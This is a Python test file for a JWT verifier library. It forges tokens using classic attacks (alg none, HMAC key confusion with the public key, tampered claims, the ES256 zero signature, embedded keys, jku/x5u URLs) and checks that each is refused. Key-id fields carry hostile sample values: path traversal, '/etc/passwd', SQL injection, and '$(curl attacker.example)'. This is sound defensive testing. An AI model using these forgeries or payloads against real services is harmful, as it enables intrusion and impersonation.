"""The classic JWT attacks, each against a real verifier (DESIGN invariant 1).

Every forged token here would be accepted by at least one historical JWT
library. Each must be refused with the specific Barbacana error, and the
key-URL headers must not cause a single outbound request.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import secrets
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import serialization

from barbacana.errors import TokenError
from barbacana.tokens import (
    AlgorithmMismatchError,
    AlgorithmNotAllowedError,
    ForbiddenHeaderError,
    InvalidAudienceError,
    InvalidIssuerError,
    InvalidSignatureError,
    InvalidTypeError,
    JWKSCache,
    KeyRing,
    MalformedTokenError,
    SigningKey,
    TokenExpiredError,
    TokenIssuer,
    TokenNotYetValidError,
    TokenTooLargeError,
    TokenVerifier,
    UnknownAlgorithmError,
    UnknownCriticalHeaderError,
    UnknownKeyError,
    generate_signing_key,
)
from barbacana.tokens._b64 import b64url_encode

ISSUER = "https://auth.barbacana.test"
AUDIENCE = "orders"
NOW = 1_700_000_000.0
EVERY_ALGORITHM = ["Ed25519", "EdDSA", "ES256", "RS256"]


def clock() -> float:
    return NOW


KEYS: dict[str, SigningKey] = {}


def key(alg: str, slot: str = "ours") -> SigningKey:
    """One active key per (algorithm, owner), made once."""
    if (alg, slot) not in KEYS:  # type: ignore[comparison-overlap]
        KEYS[(alg, slot)] = generate_signing_key(alg, now=NOW - 60, state="active")  # type: ignore[index]
    return KEYS[(alg, slot)]  # type: ignore[index]


def verifier(
    *keys: SigningKey, algorithms: list[str] | None = None, **options: Any
) -> TokenVerifier:
    ring = KeyRing(keys)
    return TokenVerifier(
        ring,
        issuer=ISSUER,
        audience=AUDIENCE,
        algorithms=algorithms or sorted({k.alg for k in keys}),
        clock=clock,
        cache_size=0,
        **options,
    )


def claims(**overrides: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "iss": ISSUER,
        "sub": "alice",
        "aud": AUDIENCE,
        "exp": int(NOW) + 600,
        "iat": int(NOW),
        "nbf": int(NOW),
        "jti": "dGhpcy1pcy1hLWp0aS0xMjM",
        "client_id": "web",
        "scope": "orders:read",
        "roles": ["user"],
    }
    values.update(overrides)
    return values


def seg(value: Any) -> str:
    raw = value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":")).encode()
    return b64url_encode(raw)


def jws(header: Any, payload: Any, signature: bytes = b"") -> str:
    return f"{seg(header)}.{seg(payload)}.{b64url_encode(signature)}"


def signed_by(signer: SigningKey, header: dict[str, Any], payload: Any) -> str:
    signing_input = f"{seg(header)}.{seg(payload)}"
    return f"{signing_input}.{b64url_encode(signer.sign(signing_input.encode()))}"


def header(target: SigningKey, **changes: Any) -> dict[str, Any]:
    return {"alg": target.alg, "kid": target.kid, "typ": "at+jwt", **changes}


def issue(signer: SigningKey, **kwargs: Any) -> str:
    issuer = TokenIssuer(
        KeyRing([signer]), issuer=ISSUER, audience=AUDIENCE, access_ttl=600, clock=clock
    )
    return issuer.issue_access(
        "alice", scope=["orders:read"], roles=["user"], client_id="web", **kwargs
    ).token


class Canary(BaseHTTPRequestHandler):
    """Records any request; a verifier that fetches a token-supplied URL would trip it."""

    hits: list[str] = []

    def do_GET(self) -> None:
        Canary.hits.append(self.path)
        body = json.dumps({"keys": [key("Ed25519", "attacker").public_jwk()]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def canary() -> Iterator[str]:
    Canary.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


class TestAlgNone:
    """alg none, in every casing, with and without a signature."""

    @pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
    @pytest.mark.parametrize("signature", [b"", b"x" * 64], ids=["unsigned", "signed"])
    @pytest.mark.parametrize("target", ["Ed25519", "ES256", "RS256"])
    def test_refused(self, alg: str, signature: bytes, target: str) -> None:
        """none is registered but never allowed; other casings are not registered names."""
        token = jws(header(key(target), alg=alg), claims(), signature)
        with pytest.raises(TokenError) as info:
            verifier(key(target), algorithms=EVERY_ALGORITHM).verify(token)
        expected = AlgorithmNotAllowedError if alg == "none" else UnknownAlgorithmError
        assert type(info.value) is expected

    def test_none_cannot_be_allowed(self) -> None:
        """Not even configuration can allow none."""
        with pytest.raises(Exception, match="never"):
            verifier(key("Ed25519"), algorithms=["Ed25519", "none"])


class TestStrippedSignature:
    """header.payload. with the signature removed."""

    @pytest.mark.parametrize("alg", ["Ed25519", "ES256", "RS256"])
    def test_refused(self, alg: str) -> None:
        """A valid token minus its signature fails."""
        head, body, _ = issue(key(alg)).split(".")
        with pytest.raises(InvalidSignatureError):
            verifier(key(alg)).verify(f"{head}.{body}.")


class TestHmacKeyConfusion:
    """HS256 'signed' with the public key, hoping the verifier uses it as an HMAC secret."""

    @staticmethod
    def forms(target: SigningKey) -> dict[str, bytes]:
        public = target.public_key
        return {
            "pem": public.public_bytes(
                serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
            ),
            "der": public.public_bytes(
                serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
            ),
            "jwk": json.dumps(target.public_jwk()).encode(),
            "jwk-sorted": json.dumps(
                target.public_jwk(), sort_keys=True, separators=(",", ":")
            ).encode(),
        }

    @pytest.mark.parametrize("alg", ["Ed25519", "ES256", "RS256"])
    @pytest.mark.parametrize("form", ["pem", "der", "jwk", "jwk-sorted"])
    @pytest.mark.parametrize("hs", ["HS256", "HS384", "HS512"])
    def test_refused(self, alg: str, form: str, hs: str) -> None:
        """The forged HMAC token is refused before any key is used."""
        target = key(alg)
        secret = self.forms(target)[form]
        signing_input = f"{seg(header(target, alg=hs))}.{seg(claims())}"
        digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[hs]
        mac = hmac.new(secret, signing_input.encode(), digest).digest()
        with pytest.raises(AlgorithmNotAllowedError):
            verifier(target, algorithms=EVERY_ALGORITHM).verify(
                f"{signing_input}.{b64url_encode(mac)}"
            )


class TestTamperedClaims:
    """Changing the payload of a valid token."""

    @pytest.mark.parametrize("alg", ["Ed25519", "ES256", "RS256"])
    @pytest.mark.parametrize(
        "change",
        [
            {"sub": "admin"},
            {"roles": ["admin"]},
            {"scope": "orders:admin"},
            {"exp": int(NOW) + 10**6},
            {"aud": "chat"},
        ],
    )
    def test_refused(self, alg: str, change: dict[str, Any]) -> None:
        """The original signature does not cover the new payload."""
        head, _, sig = issue(key(alg)).split(".")
        forged = f"{head}.{seg(claims(**change))}.{sig}"
        with pytest.raises(InvalidSignatureError):
            verifier(key(alg)).verify(forged)

    def test_psychic_signature(self) -> None:
        """ES256 with r = s = 0 (CVE-2022-21449) is not a valid signature."""
        token = jws(header(key("ES256")), claims(), bytes(64))
        with pytest.raises(InvalidSignatureError):
            verifier(key("ES256")).verify(token)


class TestEmbeddedKeys:
    """Keys or key URLs supplied by the token itself."""

    @pytest.mark.parametrize("kid", ["ours", "attackers"])
    def test_embedded_jwk(self, kid: str) -> None:
        """A token carrying its own jwk, signed by that key, is refused."""
        attacker = key("Ed25519", "attacker")
        chosen = key("Ed25519").kid if kid == "ours" else attacker.kid
        token = signed_by(
            attacker, header(attacker, kid=chosen, jwk=attacker.public_jwk()), claims()
        )
        with pytest.raises(ForbiddenHeaderError):
            verifier(key("Ed25519")).verify(token)

    def test_embedded_x5c(self) -> None:
        """A certificate chain in the header is refused too."""
        attacker = key("ES256", "attacker")
        token = signed_by(attacker, header(attacker, x5c=["MIIB..."]), claims())
        with pytest.raises(ForbiddenHeaderError):
            verifier(key("ES256")).verify(token)

    @pytest.mark.parametrize("member", ["jku", "x5u"])
    async def test_key_url_is_never_fetched(self, canary: str, member: str) -> None:
        """jku and x5u pointing at a live server: refused, and the server sees no request.

        The verifier is a resource service's, backed by a JWKSCache that does
        fetch keys — from its configured URL only.
        """
        attacker = key("Ed25519", "attacker")
        ours = key("Ed25519")
        jwks_body = json.dumps(KeyRing([ours]).jwks())

        def jwks(request: httpx.Request) -> httpx.Response:
            return httpx.Response(200, text=jwks_body)

        async with httpx.AsyncClient(transport=httpx.MockTransport(jwks)) as http:
            cache = JWKSCache("https://identity.internal/jwks", http, clock=clock)
            await cache.load()
            remote = TokenVerifier(
                cache, issuer=ISSUER, audience=AUDIENCE, algorithms=EVERY_ALGORITHM, clock=clock
            )
            for kid in (attacker.kid, ours.kid, "fresh-kid"):
                token = signed_by(
                    attacker, header(attacker, kid=kid, **{member: canary + "/keys.json"}), claims()
                )
                with pytest.raises(ForbiddenHeaderError):
                    await remote.verify_async(token)
                with pytest.raises(ForbiddenHeaderError):
                    remote.verify(token)
        time.sleep(0.2)
        assert Canary.hits == []
        with httpx.Client() as client:  # the canary works: it would have seen a fetch
            assert client.get(canary + "/probe").status_code == 200
        assert Canary.hits == ["/probe"]


class TestOddKeyIds:
    """kid is a dictionary key, never a path, query or command."""

    @pytest.mark.parametrize(
        "kid",
        [
            "../../../../../../dev/null",
            "/etc/passwd",
            "' UNION SELECT 'secret' --",
            "1; DROP TABLE signing_keys",
            "$(curl attacker.example)",
            "http://attacker.example/key",
            "k" * 5000,
            "",
            "\u0000",
            "ключ",
        ],
    )
    def test_string_kids_are_unknown(self, kid: str) -> None:
        """Every odd string is just an unknown key id."""
        attacker = key("Ed25519", "attacker")
        token = signed_by(attacker, header(attacker, kid=kid), claims())
        with pytest.raises(UnknownKeyError):
            verifier(key("Ed25519"), max_token_bytes=65536).verify(token)

    @pytest.mark.parametrize("kid", [None, 0, -1, True, [], ["kid"], {"$ne": None}, 1.5])
    def test_non_string_kids_are_unknown(self, kid: Any) -> None:
        """A kid that is not a string is an unknown key, not a crash or a match."""
        token = signed_by(key("Ed25519"), header(key("Ed25519"), kid=kid), claims())
        with pytest.raises(UnknownKeyError):
            verifier(key("Ed25519")).verify(token)


class TestCrit:
    """Critical extensions Barbacana does not implement."""

    @pytest.mark.parametrize("crit", [["b64"], ["exp"], ["http://attacker.example/ext"]])
    def test_refused(self, crit: list[str]) -> None:
        """A correctly signed token with an unknown crit is refused."""
        token = signed_by(key("Ed25519"), header(key("Ed25519"), crit=crit, b64=False), claims())
        with pytest.raises(UnknownCriticalHeaderError):
            verifier(key("Ed25519")).verify(token)


class TestMalformed:
    """Structure attacks."""

    @pytest.mark.parametrize(
        "token",
        [
            "eyJhbGciOiJFZDI1NTE5In0.eyJzdWIiOiJhIn0",
            "eyJhbGciOiJFZDI1NTE5In0.eyJzdWIiOiJhIn0.AAAA.AAAA",
            "eyJhbGciOiJFZDI1NTE5In0.eyJzdWIiOiJhIn0.AAAA.AAAA.AAAA",
            "!!!.eyJzdWIiOiJhIn0.AAAA",
            "eyJhbGciOiJFZDI1NTE5In0=.eyJzdWIiOiJhIn0.AAAA",
            f"{seg(b'not json')}.{seg(claims())}.AAAA",
            f"{seg([{'alg': 'Ed25519'}])}.{seg(claims())}.AAAA",
            f"{seg(b'{}')}.{seg(claims())}.AAAA",
            "",
            "..",
        ],
        ids=[
            "2-segments",
            "4-segments",
            "5-segments",
            "bad-base64",
            "padded",
            "non-json",
            "array",
            "no-alg",
            "empty",
            "dots",
        ],
    )
    def test_refused(self, token: str) -> None:
        """Each is a MalformedTokenError."""
        with pytest.raises(MalformedTokenError):
            verifier(key("Ed25519")).verify(token)

    def test_oversized(self) -> None:
        """A huge, otherwise valid token is refused for its size alone."""
        token = issue(key("Ed25519"), extra={"padding": "x" * 20_000})
        with pytest.raises(TokenTooLargeError):
            verifier(key("Ed25519")).verify(token)

    def test_deeply_nested_header(self) -> None:
        """A header nested thousands deep fails cleanly."""
        deep = b'{"alg":"Ed25519","x":' + b"[" * 3000 + b"]" * 3000 + b"}"
        with pytest.raises(MalformedTokenError):
            verifier(key("Ed25519"), max_token_bytes=65536).verify(
                f"{seg(deep)}.{seg(claims())}.AAAA"
            )


class TestWrongTokenKind:
    """Tokens that are real, but not access tokens."""

    @pytest.mark.parametrize(
        "token",
        [secrets.token_urlsafe(32), "rt_" + secrets.token_urlsafe(32), secrets.token_hex(32)],
    )
    def test_refresh_token(self, token: str) -> None:
        """An opaque refresh token is not a JWS."""
        with pytest.raises(MalformedTokenError):
            verifier(key("Ed25519")).verify(token)

    def test_id_token(self) -> None:
        """An ID token (typ JWT, aud the client, nonce) signed by our key is refused for its typ."""
        id_token = signed_by(
            key("Ed25519"),
            header(key("Ed25519"), typ="JWT"),
            {**claims(aud="web"), "nonce": "n-0S6_WzA2Mj", "auth_time": int(NOW)},
        )
        with pytest.raises(InvalidTypeError):
            verifier(key("Ed25519")).verify(id_token)

    def test_untyped_jwt(self) -> None:
        """A JWT without typ, otherwise a perfect access token, is refused."""
        header_values = header(key("ES256"))
        del header_values["typ"]
        with pytest.raises(InvalidTypeError):
            verifier(key("ES256")).verify(signed_by(key("ES256"), header_values, claims()))


class TestClaims:
    """Valid signatures over unacceptable claims."""

    def test_expired(self) -> None:
        """exp in the past."""
        token = signed_by(
            key("Ed25519"), header(key("Ed25519")), claims(exp=int(NOW) - 1, iat=int(NOW) - 601)
        )
        with pytest.raises(TokenExpiredError):
            verifier(key("Ed25519")).verify(token)

    def test_not_yet_valid(self) -> None:
        """nbf an hour ahead."""
        token = signed_by(key("Ed25519"), header(key("Ed25519")), claims(nbf=int(NOW) + 3600))
        with pytest.raises(TokenNotYetValidError):
            verifier(key("Ed25519")).verify(token)

    def test_wrong_audience(self) -> None:
        """A token for the chat service replayed at orders."""
        token = signed_by(key("Ed25519"), header(key("Ed25519")), claims(aud="chat"))
        with pytest.raises(InvalidAudienceError):
            verifier(key("Ed25519")).verify(token)

    def test_wrong_issuer(self) -> None:
        """A token from another issuer that happens to use a key we know."""
        token = signed_by(
            key("Ed25519"), header(key("Ed25519")), claims(iss="https://evil.example")
        )
        with pytest.raises(InvalidIssuerError):
            verifier(key("Ed25519")).verify(token)


class TestKeySubstitution:
    """Right kid, wrong key or wrong algorithm."""

    @pytest.mark.parametrize("alg", ["Ed25519", "ES256", "RS256"])
    def test_other_ring_same_kid(self, alg: str) -> None:
        """An attacker's ring whose key claims our kid: its tokens fail the signature."""
        attacker = key(alg, "attacker")
        impostor = SigningKey(
            kid=key(alg).kid,
            alg=alg,
            public_key=attacker.public_key,
            private_key=attacker.private_key,
        )
        with pytest.raises(InvalidSignatureError):
            verifier(key(alg)).verify(issue(impostor))

    def test_rs256_token_against_es256_key(self) -> None:
        """An RS256 token naming an ES256 key: not allowed, or a mismatch when RS256 is allowed."""
        es, rs = key("ES256"), key("RS256", "attacker")
        token = signed_by(rs, header(es, alg="RS256"), claims())
        with pytest.raises(AlgorithmNotAllowedError) as info:
            verifier(es).verify(token)
        assert type(info.value) is AlgorithmNotAllowedError
        with pytest.raises(AlgorithmMismatchError):
            verifier(es, algorithms=EVERY_ALGORITHM).verify(token)

    def test_eddsa_alias_against_ed25519_key(self) -> None:
        """The deprecated EdDSA name cannot be used with a key published as Ed25519."""
        token = signed_by(key("Ed25519"), header(key("Ed25519"), alg="EdDSA"), claims())
        with pytest.raises(AlgorithmMismatchError):
            verifier(key("Ed25519"), algorithms=EVERY_ALGORITHM).verify(token)

    @pytest.mark.parametrize("alg", ["Ed25519", "ES256", "RS256"])
    def test_retired_key(self, alg: str) -> None:
        """A token signed by a retired key, otherwise valid, is refused."""
        token = issue(key(alg))
        retired = key(alg).with_state("retired")
        with pytest.raises(UnknownKeyError):
            verifier(retired, algorithms=[alg]).verify(token)
